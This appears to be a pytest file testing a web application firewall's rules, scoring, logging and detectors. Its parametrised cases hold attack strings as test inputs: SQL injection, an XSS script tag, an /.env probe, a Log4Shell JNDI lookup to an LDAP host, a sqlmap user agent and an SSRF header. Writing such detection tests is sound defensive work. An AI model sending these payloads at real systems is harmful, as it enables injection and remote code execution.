"""The WAF gate: clean requests pass, others are written down, and refused where that is wanted."""

import logging
from pathlib import Path

import pytest

from tests.support.contexts import REQUEST_ID, make_context
from worker.context import Context
from worker.reasons import Block
from worker.response.error_page import ErrorPage
from worker.security.waf.gate import WafGate
from worker.security.waf.judge import http_request
from worker.security.waf.judges import make_judges
from worker.settings import JudgeSettings, WafSettings

RULES = """
SecRule ARGS|REQUEST_HEADERS "@contains attack" "id:1,phase:2,log,msg:'An attack',setvar:tx.anomaly_score=+5"
SecRule TX:anomaly_score "@ge %{tx.inbound_anomaly_score_threshold}" "id:2,phase:2,log,deny,msg:'Too much'"
SecRule REQUEST_HEADERS:Host "!@streq example.org" "id:3,phase:1,log,deny,msg:'Wrong host'"
SecRule REQUEST_PROTOCOL "!@within %{tx.allowed_http_versions}" "id:4,phase:1,log,deny,msg:'Wrong version'"
"""
HOST = (b"Host", b"example.org")


class Gates:
    """Gates by these rules, or by the detectors alone."""

    def __init__(self, folder: Path) -> None:
        self.cache = folder
        self.file = folder / "rules.conf"
        self.file.write_text(RULES)

    def __call__(self, *, blocks: bool = True, threshold: int = 5, with_rules: bool = True) -> WafGate:
        rules = (str(self.file),) if with_rules else ()
        judge = JudgeSettings(threshold=threshold, rules=rules)
        loop = make_judges([judge], self.cache)[judge].loop
        return WafGate(loop, WafSettings(judge, blocks=blocks), ErrorPage("edge").refuse)


@pytest.fixture(scope="module")
def gate(tmp_path_factory: pytest.TempPathFactory) -> Gates:
    return Gates(tmp_path_factory.mktemp("gate"))


def context(*fields: tuple[bytes, bytes], query: bytes | None = None, path: bytes = b"/a") -> Context:
    return make_context(HOST, *fields, query=query, path=path)


@pytest.mark.parametrize("with_rules", [True, False])
def test_a_clean_request_goes_on_and_is_not_logged(
    gate: Gates, with_rules: bool, caplog: pytest.LogCaptureFixture
) -> None:
    waf = gate(with_rules=with_rules)
    for _ in range(2):
        ctx = context(query=b"a=1")
        assert waf(ctx) is None
        assert (ctx.block, ctx.waf) == (None, None)
    assert not caplog.records


def test_what_the_rules_deny_is_refused_with_a_403_and_told_to_the_log(
    gate: Gates, caplog: pytest.LogCaptureFixture
) -> None:
    ctx = context(query=b"a=an%20attack")
    response = gate()(ctx)
    assert response is not None
    assert (response.status, ctx.block) == (403, Block.WAF)
    assert ctx.waf is not None
    assert (ctx.waf.rules, ctx.waf.score) == (["1", "2"], 5)
    (record,) = caplog.records
    line = record.getMessage()
    assert REQUEST_ID.decode() in line
    assert "rule 1 at ARGS:a b'an attack': An attack (score 5); rule 2 at TX:anomaly_score b'5'" in line
    assert "was refused" in line


def test_without_blocking_the_log_says_what_would_have_happened(
    gate: Gates, caplog: pytest.LogCaptureFixture
) -> None:
    ctx = context(query=b"a=attack")
    assert gate(blocks=False)(ctx) is None
    assert ctx.block is None
    assert ctx.waf is not None
    assert ctx.waf.refuses
    assert "would have been refused ('waf: block' enforces it)" in caplog.text


def test_a_match_below_the_threshold_is_only_logged(gate: Gates, caplog: pytest.LogCaptureFixture) -> None:
    assert gate(threshold=6)(context(query=b"a=attack")) is None
    assert "matched rules: rule 1" in caplog.text


def test_what_rules_and_detectors_find_is_added_up(gate: Gates) -> None:
    ctx = context(query=b"a=attack+%3Cscript%3Ealert(1)%3C/script%3E")
    assert gate(threshold=10)(ctx) is not None
    assert ctx.waf is not None
    assert (ctx.waf.rules, ctx.waf.score) == (["1", "xss"], 10)


def test_a_flood_of_matches_is_one_line_a_second(gate: Gates, caplog: pytest.LogCaptureFixture) -> None:
    waf = gate()
    caplog.set_level(logging.WARNING)
    first = context(query=b"a=attack")
    for elapsed_ns in (0, 1, 2, 1_000_000_000):
        ctx = context(query=b"a=attack")
        ctx.now_ns = first.now_ns + elapsed_ns
        assert waf(ctx) is not None
    assert len(caplog.records) == 2
    assert "(2 more requests since the last line)" in caplog.records[1].getMessage()


@pytest.mark.parametrize("version", [b"1.0", b"1.1", b"2", b"3"])
def test_every_protocol_we_speak_is_a_known_one_with_a_host(gate: Gates, version: bytes) -> None:
    fields = [HOST] if version.startswith(b"1") else []
    assert gate()(make_context(*fields, version=version)) is None


def test_http_3_is_to_rules_what_http_2_is() -> None:
    assert http_request(make_context(version=b"3")).version == b"2"


def test_what_is_looked_at_is_what_is_forwarded() -> None:
    ctx = context(path=b"/a/../b", query=b"x=1")
    ctx.request.path = b"/b"  # what the normalise gate makes of it
    head = http_request(ctx)
    assert (head.target, head.address, head.unique_id) == (b"/b?x=1", "192.0.2.1", REQUEST_ID)


@pytest.mark.parametrize(
    ("fields", "path", "query", "rules"),
    [
        ((), b"/a", b"id=1'+or+1=1--", ["sqli"]),
        ((), b"/a", b"<script>alert(1)</script>=1", ["xss"]),
        ((), b"/.env", None, ["traversal", "probe"]),
        (((b"User-Agent", b"${jndi:ldap://192.0.2.9/a}"),), b"/a", None, ["lookup"]),
        (((b"User-Agent", b"sqlmap/1.8#stable (https://sqlmap.org)"),), b"/a", None, ["agent"]),
        (((b"Cookie", b"a=1; id=1'%20or%201=1--"),), b"/a", None, ["sqli"]),
        (((b"Referer", b"http://127.0.0.1/x"),), b"/a", None, []),
        (((b"Forwarded-To", b"http://127.0.0.1/x"),), b"/a", None, ["ssrf"]),
        ((), b"/a", b"&".join(b"a%d=1" % number for number in range(257)), ["excess"]),
    ],
)
def test_the_detectors_look_at_every_part_of_a_head(
    gate: Gates,
    fields: tuple[tuple[bytes, bytes], ...],
    path: bytes,
    query: bytes | None,
    rules: list[str],
) -> None:
    for waf in (gate(with_rules=False), gate()):
        for _ in range(2):  # the second time by memory
            ctx = context(*fields, path=path, query=query)
            waf(ctx)
            assert (ctx.waf.rules if ctx.waf is not None else []) == rules
